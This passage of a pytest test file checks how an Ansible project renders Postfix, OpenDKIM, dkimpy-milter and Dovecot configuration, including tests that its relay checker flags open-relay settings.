    assert main["non_smtpd_milters"] == rspamd
    assert main["smtpd_milter_maps"] == "cidr:" + _postfix.MILTER_MAP
    master = {tuple(e[:2]): e for e in _postfix.parse_master_cf(files[1]["content"])}
    assert "smtpd_milters=" + rspamd in master[("submission", "inet")]
    table = render("postfix/templates/milters_internal.cidr.j2", postfix_settings=settings)
    rows = [line.split(None, 1) for line in table.splitlines() if line and not line.startswith("#")]
    assert {r[1] for r in rows} == {rspamd}
    # Only inbound milters: trusted clients get none (DISABLE in the map, an empty list on submission).
    values.update(milters=[opendkim], non_smtpd_milters=[opendkim], inbound_milters=[opendkim])
    settings = services.postfix_config(values)
    files = postfix_files(settings)
    main = _postfix.parse_main_cf(files[0]["content"])
    assert main["smtpd_milters"] == opendkim and main.get("non_smtpd_milters", "") == ""
    table = render("postfix/templates/milters_internal.cidr.j2", postfix_settings=settings)
    assert {line.split(None, 1)[1] for line in table.splitlines() if line and not line.startswith("#")} == {"DISABLE"}
    # Not one of postfix_milters: refused, naming the variable.
    values["inbound_milters"] = ["unix:other/other.sock"]
    with pytest.raises(Exception, match="postfix_inbound_milters"):
        services.postfix_config(values)


def test_postfix_milter_action_choices_are_one_list():
    """The argument specs offer exactly the actions the validator takes (MILTER_ACTIONS)."""
    postfix = yaml.safe_load((ROOT / "roles/postfix/meta/argument_specs.yml").read_text())["argument_specs"]["main"]
    dkimpy = yaml.safe_load((ROOT / "roles/dkimpy_milter/meta/argument_specs.yml").read_text())
    dkimpy = dkimpy["argument_specs"]["main"]
    assert sorted(postfix["options"]["postfix_milter_default_action"]["choices"]) == sorted(_postfix.MILTER_ACTIONS)
    assert sorted(dkimpy["options"]["dkimpy_milter_default_action"]["choices"]) == sorted(_postfix.MILTER_ACTIONS)


@pytest.mark.parametrize(
    ("rsa_keys", "dual"),
    [
        ([{"domain": "example.test", "subdomains": True}], True),
        ([{"domain": "example.test", "subdomains": False}], False),
        ([{"domain": "example.org", "subdomains": True}], False),
        ([], False),
    ],
)
def test_dkimpy_milter_default_action_only_where_rsa_signs_too(rsa_keys, dual):
    """dkimpy-milter gets its own action (accept) only where OpenDKIM's RSA keys cover every ed25519 key."""
    settings = services.dkimpy_milter_config({**copy.deepcopy(DKIMPY_OK), "rsa_keys": rsa_keys})
    assert settings["dual"] is dual
    expected = {"unix:dkimpy-milter/dkimpy-milter.sock": "accept"} if dual else {}
    assert settings["postfix_milter_actions"] == expected


def test_postfix_managed_parameters_are_what_the_template_writes():
    """Every parameter main.cf.j2 writes is managed, and every managed one comes from the table."""
    values = copy.deepcopy(POSTFIX_OK)
    values["maillog_file"] = "/var/log/mail.log"
    values["smtpd_recipient_restrictions"] = ["reject_unauth_pipelining"]
    values["master_services"] = POLICYD_SPF
    values["mailbox_transport"] = "lmtp:unix:private/dovecot-lmtp"
    values["header_checks"] = ["/^X-Spam-Flag:/ IGNORE"]
    values["forward_domains"] = [{"name": "example.test", "forwards": {"alice": "alice@example.org"}}]
    values["sender_canonical_maps"] = ["tcp:127.0.0.1:10001"]
    values["recipient_canonical_maps"] = ["tcp:127.0.0.1:10002"]
    written = set(_postfix.parse_main_cf(postfix_files(services.postfix_config(values))[0]["content"]))
    assert written == set(_postfix.MANAGED - _postfix.NOT_IN_MAIN_CF)
    for name in ("relayhost", "smtpd_helo_required", "disable_vrfy_command", "smtpd_milter_maps"):
        assert name in _postfix.MANAGED


# The SPF policy daemon as postfix-policyd-spf-python's README runs it (the inbound work adds it).
POLICYD_SPF = service(
    service="policyd-spf",
    type="unix",
    unpriv="n",
    chroot="n",
    maxproc="0",
    command="spawn",
    args=["user=policyd-spf", "argv=/usr/bin/policyd-spf"],
)


@pytest.mark.parametrize(("limit", "written"), [("3600s", "3600s"), (3600, "3600"), ("1h", "1h")])
def test_policyd_spf_time_limit_is_written_with_its_service(limit, written):
    values = copy.deepcopy(POSTFIX_OK)
    values["policyd_spf_time_limit"] = limit
    values["smtpd_recipient_restrictions"] = [
        "reject_unauth_destination",
        "check_policy_service unix:private/policyd-spf",
    ]
    assert "policyd-spf_time_limit" not in _postfix.parse_main_cf(
        postfix_files(services.postfix_config(values))[0]["content"]
    )
    values["master_services"] = POLICYD_SPF
    files = postfix_files(services.postfix_config(values))
    main = _postfix.parse_main_cf(files[0]["content"])
    assert main["policyd-spf_time_limit"] == written
    assert (
        main["smtpd_recipient_restrictions"]
        == "reject_unauth_destination, check_policy_service unix:private/policyd-spf"
    )
    master = {tuple(e[:2]): e for e in _postfix.parse_master_cf(files[1]["content"])}
    assert master[("policyd-spf", "unix")][7:] == ["spawn", "user=policyd-spf", "argv=/usr/bin/policyd-spf"]
    assert services.postfix_relay_problems(files) == []


@pytest.mark.parametrize(
    "endpoint",
    [
        "unix:private/policyd-spf",
        "unix:/var/spool/postfix/private/p",
        "inet:127.0.0.1:10023",
        "inet:[::1]:10023",
        "inet:policy.example.test:9998",
    ],
)
def test_policy_service_endpoints_are_written(endpoint):
    values = copy.deepcopy(POSTFIX_OK)
    values["smtpd_recipient_restrictions"] = ["reject_unauth_destination", "check_policy_service " + endpoint]
    main = _postfix.parse_main_cf(postfix_files(services.postfix_config(values))[0]["content"])
    assert main["smtpd_recipient_restrictions"] == "reject_unauth_destination, check_policy_service " + endpoint


def test_postfix_extras_render_after_the_managed_lines():
    values = copy.deepcopy(POSTFIX_OK)
    values["main_cf_extra"] = {"body_checks": ["regexp:/etc/postfix/h", "pcre:/etc/postfix/p"], "biff_x": True}
    content = postfix_files(services.postfix_config(values))[0]["content"]
    assert content.rstrip().splitlines()[-2:] == [
        "biff_x = yes",
        "body_checks = regexp:/etc/postfix/h, pcre:/etc/postfix/p",
    ]


def test_open_networks_only_when_allowed():
    values = copy.deepcopy(POSTFIX_OK)
    values["mynetworks"] = ["0.0.0.0/0"]
    values["allow_open_networks"] = True
    files = postfix_files(services.postfix_config(values))
    assert services.postfix_relay_problems(files) != []
    assert services.postfix_relay_problems(files, allow_open_networks=True) == []


@pytest.mark.parametrize(
    "master",
    [
        "2525 inet n - y - - smtpd -osmtpd_relay_restrictions=permit",
        "2525 inet n - y - - smtpd\n  -o { smtpd_relay_restrictions = permit }",
        "2525 inet n - y - - smtpd\n  -o smtpd_relay_restrictions=${nothing}",
    ],
    ids=["joined-o", "braces", "undefined-braced"],
)
def test_relay_invariant_reads_master_cf_as_postfix_does(master):
    main = "mynetworks = 127.0.0.0/8\nsmtpd_relay_restrictions = permit_mynetworks, reject_unauth_destination\n"
    assert _postfix.relay_problems(main, master)


def test_main_cf_continuation_lines_are_read():
    main = (
        "mynetworks = 127.0.0.0/8\n  0.0.0.0/0\n"
        "smtpd_relay_restrictions = permit_mynetworks,\n reject_unauth_destination\n"
    )
    problems = _postfix.relay_problems(main, "smtp inet n - y - - smtpd\n")
    assert any("every address" in p for p in problems)


def test_opendkim_defaults_render():
    settings = services.opendkim_config(copy.deepcopy(OPENDKIM_OK))
    conf = render("opendkim/templates/opendkim.conf.j2", opendkim_settings=settings)
    names = [line.split()[0] for line in conf.splitlines() if line and not line.startswith("#")]
    assert len(names) == len(set(n.lower() for n in names))
    assert {n.lower() for n in names} <= set(_opendkim.MANAGED)
    assert "Socket\t\tlocal:/var/spool/postfix/opendkim/opendkim.sock" in conf
    assert settings["postfix_milter"] == "unix:opendkim/opendkim.sock"
    assert settings["socket_directory"] == "/var/spool/postfix/opendkim"


@pytest.mark.parametrize(
    ("socket", "address", "directory", "wait"),
    [
        (
            "local:/var/spool/postfix/opendkim/opendkim.sock",
            "unix:opendkim/opendkim.sock",
            "/var/spool/postfix/opendkim",
            {"path": "/var/spool/postfix/opendkim/opendkim.sock"},
        ),
        (
            "local:/run/opendkim/opendkim.sock",
            "unix:/run/opendkim/opendkim.sock",
            "/run/opendkim",
            {"path": "/run/opendkim/opendkim.sock"},
        ),
        (
            "local:/var/spool/postfixx/o.sock",
            "unix:/var/spool/postfixx/o.sock",
            "/var/spool/postfixx",
            {"path": "/var/spool/postfixx/o.sock"},
        ),
        ("inet:8891@127.0.0.1", "inet:127.0.0.1:8891", None, {"host": "127.0.0.1", "port": 8891}),
        ("inet:8891@localhost", "inet:localhost:8891", None, {"host": "localhost", "port": 8891}),
        ("inet6:8891@[::1]", "inet:[::1]:8891", None, {"host": "::1", "port": 8891}),
    ],
)
def test_milter_socket_as_postfix_reaches_it(socket, address, directory, wait):
    """Postfix's address, the directory the role makes and what wait_for waits on, for every milter role."""
    values = {**copy.deepcopy(OPENDKIM_OK), "socket": socket}
    settings = services.opendkim_config(values)
    assert (settings["postfix_milter"], settings["socket_directory"], settings["wait"]) == (address, directory, wait)
    dkimpy = services.dkimpy_milter_config({**copy.deepcopy(DKIMPY_OK), "socket": socket, "opendkim_socket": ""})
    assert (dkimpy["postfix_milter"], dkimpy["socket_directory"], dkimpy["wait"]) == (address, directory, wait)


def test_dkimpy_milter_defaults_render():
    settings = services.dkimpy_milter_config(copy.deepcopy(DKIMPY_OK))
    assert settings["internal_hosts"] == "csl:127.0.0.1,::1"
    assert settings["postfix_milter"] == "unix:dkimpy-milter/dkimpy-milter.sock"
    conf = render(
        "dkimpy_milter/templates/dkimpy-milter.conf.j2",
        dkimpy_milter_settings=settings,
        dkimpy_milter_pid_file="/run/dkimpy-milter/dkimpy-milter.pid",
    )
    assert "Socket\t\t\tlocal:/var/spool/postfix/dkimpy-milter/dkimpy-milter.sock" in conf
    assert "InternalHosts\t\tcsl:127.0.0.1,::1" in conf
    values = copy.deepcopy(DKIMPY_OK)
    values["internal_hosts"] = ["[::1]", "[2001:db8::]/32", "10.0.0.0/8", "mail.example.test"]
    assert services.dkimpy_milter_config(values)["internal_hosts"] == (
        "csl:::1,2001:db8::/32,10.0.0.0/8,mail.example.test"
    )


def test_dovecot_defaults_render():
    settings = services.dovecot_config(copy.deepcopy(DOVECOT_OK))
    conf = render("dovecot/templates/local.conf.j2", dovecot_settings=settings)
    assert "auth_mechanisms = plain login" in conf
    assert "unix_listener /var/spool/postfix/private/auth {" in conf


def test_opendkim_extras_render_last():
    values = copy.deepcopy(OPENDKIM_OK)
    values["conf_extra"] = {"LogResults": True, "MinimumKeyBits": 1024}
    conf = render("opendkim/templates/opendkim.conf.j2", opendkim_settings=services.opendkim_config(values))
    assert conf.rstrip().splitlines()[-2:] == ["LogResults\t\tyes", "MinimumKeyBits\t\t1024"]


@pytest.mark.parametrize(
    "relayhost", ["[smtp.example.net]:587", "smtp.example.net", "[192.0.2.25]", "[2001:db8::25]:25"]
)
def test_relayhost_is_written(relayhost):
    values = copy.deepcopy(POSTFIX_OK)
    values["relayhost"] = relayhost
    main = _postfix.parse_main_cf(postfix_files(services.postfix_config(values))[0]["content"])
    assert main["relayhost"] == relayhost


def test_missing_variable_is_named():
    values = copy.deepcopy(POSTFIX_OK)
    del values["mynetworks"]
    with pytest.raises(AnsibleFilterError, match="postfix_mynetworks is missing"):
        services.postfix_config(values)


@pytest.mark.parametrize(
    "line",
    [
        "smtpd_relay_restrictions = permit",
        "smtpd_relay_restrictions = permit_mynetworks",
        "smtpd_relay_restrictions = check_client_access hash:/etc/postfix/ok, reject_unauth_destination",
        "mynetworks = 0.0.0.0/0",
        "smtpd_relay_restrictions =",
    ],
)
def test_relay_invariant_on_a_main_cf_line_appended(line):
    """Whatever put it there (a template change, an extra that slipped through), the last definition is read."""
    files = postfix_files(services.postfix_config(copy.deepcopy(POSTFIX_OK)))
    files[0]["content"] += line + "\n"
    assert services.postfix_relay_problems(files)
